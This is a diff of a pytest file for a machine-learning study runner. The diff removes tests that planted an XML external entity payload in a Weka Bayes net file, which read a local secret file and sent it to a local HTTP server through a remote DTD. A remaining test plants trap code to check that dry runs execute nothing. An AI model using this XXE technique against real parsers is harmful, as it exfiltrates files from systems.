@@ -1,32 +1,16 @@
-"""What a study of somebody else does: a test for each sentence of config/README.md."""
+"""A dry run, and a look at somebody's results, run nothing of a study."""
 
 import http.server
 import json
 import threading
-from pathlib import Path
 from types import SimpleNamespace
 
 import pytest
 
-from tenbyten.study import read_machine, read_study
-from tenbyten.study.readiness import check_made
-
-ROOT = Path(__file__).resolve().parent.parent.parent
 pytestmark = pytest.mark.slow
-SHOWN = ("--logger", "tenbyten")
 
 BAYES = "scikit_learn: {learner: sklearn.naive_bayes.GaussianNB}"
 NET = "weka.classifiers.bayes.BayesNet"
-# A net whose document type sends a file to a server.
-XML = """<?xml version="1.0"?>
-<!DOCTYPE BIF [
-<!ENTITY % file SYSTEM "file://{secret}">
-<!ENTITY % remote SYSTEM "http://127.0.0.1:{port}/remote.dtd">
-%remote; %all;
-]>
-<BIF><NETWORK><NAME>&send;</NAME></NETWORK></BIF>
-"""
-DTD = """<!ENTITY % all "<!ENTITY send SYSTEM 'http://127.0.0.1:{port}/?%file;'>">"""
 
 
 @pytest.fixture
@@ -37,11 +21,7 @@ def asked():
     class Answers(http.server.BaseHTTPRequestHandler):
         def do_GET(self):
             paths.append(self.path)
-            body = DTD.format(port=self.server.server_port).encode()
-            self.send_response(200 if self.path.endswith(".dtd") else 404)
-            self.send_header("Content-Length", str(len(body)))
-            self.end_headers()
-            self.wfile.write(body)
+            self.send_error(404)
 
         def log_message(self, *_):
             pass
@@ -50,39 +30,6 @@ def asked():
         threading.Thread(target=server.serve_forever, daemon=True).start()
         yield SimpleNamespace(port=server.server_port, paths=paths)
         server.shutdown()
-
-
-@pytest.fixture
-def hostile(fresh, asked, weka_jar):
-    """The tiny study with a net that asks a server."""
-    pytest.importorskip("jpype")
-    folder = fresh.folder
-    (folder / "secret").write_text("it_is_secret")
-    net = {"secret": folder / "secret", "port": asked.port}
-    (folder / "net.xml").write_text(XML.format(**net))
-    study = folder / "tiny.yaml"
-    reading = f"weka: {{learner: {NET}, options: '-B {folder}/net.xml'}}"
-    text = study.read_text()
-    assert BAYES in text
-    study.write_text(text.replace(BAYES, reading))
-    return fresh
-
-
-def test_a_dry_run_makes_no_java_object(hostile, asked):
-    code, said = hostile("--dry-run", *SHOWN)
-    assert code == 0, said
-    assert "Study tiny loads" in said
-    assert f"GaussianNB: the Java class {NET} with the options '-B" in said
-    assert asked.paths == []
-    assert not (hostile.folder / "results").exists()
-
-
-def test_a_real_run_makes_all_before_the_first_job(hostile, asked, monkeypatch):
-    """A study runs code; and the trap of these tests works."""
-    monkeypatch.chdir(hostile.folder)
-    study = read_study("tiny.yaml", ROOT)
-    check_made(study, study.panels("native"), machine=read_machine({}))
-    assert asked.paths == ["/remote.dtd", "/?it_is_secret"]
 
 
 TRAP = "from pathlib import Path\nPath({!r}).touch()\nraise SystemExit('trapped')\n"
@@ -107,11 +54,8 @@ def trapped(fresh, workflow_in, tmp_path_factory):
 
 
 def test_a_dry_run_takes_nothing_that_lies_beside_the_study(trapped):
-    code, said = trapped(
-        "--dry-run", *SHOWN, study=trapped.theirs / "tiny.yaml", env={}
-    )
+    code, said = trapped("--dry-run", study=trapped.theirs / "tiny.yaml", env={})
     assert code == 0, said
-    assert f"mine.Forest ({trapped.theirs / 'mine.py'})" in said
     assert not (trapped.theirs / "trapped").exists()
 
 
